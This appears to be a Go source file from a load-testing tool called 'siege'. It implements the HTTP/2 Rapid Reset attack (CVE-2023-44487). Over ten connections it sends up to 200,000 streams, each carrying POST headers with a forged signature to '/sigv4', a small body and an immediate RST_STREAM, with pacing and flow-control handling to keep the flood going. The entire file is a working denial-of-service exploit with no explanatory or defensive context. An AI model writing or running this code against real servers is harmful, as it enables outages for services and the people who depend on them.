package main

import (
	"bufio"
	"bytes"
	"context"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	resets           = 200_000
	resetConnections = 10
)

// resetStreams opens HTTP/2 streams, sends some of a body, and resets them at once
// (CVE-2023-44487).
func (s *siege) resetStreams(ctx, _ context.Context, t *tally) {
	var group sync.WaitGroup
	for n := range resetConnections {
		group.Go(func() {
			for left := resets / resetConnections; left > 0 && ctx.Err() == nil; {
				left -= s.resetOn(ctx, peer(n), left, t)
			}
		})
	}
	group.Wait()
}

// resetOn resets up to limit streams of one connection, and returns how many.
func (s *siege) resetOn(ctx context.Context, p peer, limit int, t *tally) (count int) {
	c, err := p.dial(ctx, s.destination.URL)
	if err != nil {
		return 0
	}
	defer c.Close()
	w := bufio.NewWriter(c)
	w.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(w, c)
	framer.WriteSettings()

	var window atomic.Int64 // for DATA on the connection (RFC 9113, Section 6.9)
	window.Store(65535)
	go readWindow(c, framer, &window)
	head, data := resetHead(strings.TrimPrefix(s.destination.URL, "http://")), make([]byte, 256)
	ctx, stop := context.WithCancel(ctx)
	defer stop()
	pace(ctx, t.perSecond/resetConnections, func(n int, _ time.Time) {
		stream := uint32(2*n + 1)
		framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true})
		if size := int64(len(data)); window.Load() >= size {
			window.Add(-size)
			framer.WriteData(stream, false, data)
		}
		err := framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		if n%10 == 0 && err == nil {
			err = w.Flush()
		}
		if err != nil {
			t.note("connection closed")
			stop()
			return
		}
		t.sent.Add(1)
		if count++; count == limit {
			stop()
		}
	})
	w.Flush()
	return count
}

// readWindow reads what the destination sends until it ends the connection.
func readWindow(c net.Conn, framer *http2.Framer, window *atomic.Int64) {
	for {
		switch frame, err := framer.ReadFrame(); f := frame.(type) {
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				window.Add(int64(f.Increment))
			}
		case *http2.GoAwayFrame:
			c.Close()
			return
		default:
			if err != nil {
				return
			}
		}
	}
}

// resetHead is a header block that leaves the compression table alone, so that every stream
// can have it.
func resetHead(host string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", host}, {":path", "/sigv4"}} {
		e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	for name, values := range forgedSignature() {
		e.WriteField(hpack.HeaderField{Name: strings.ToLower(name), Value: values[0]})
	}
	return block.Bytes()
}
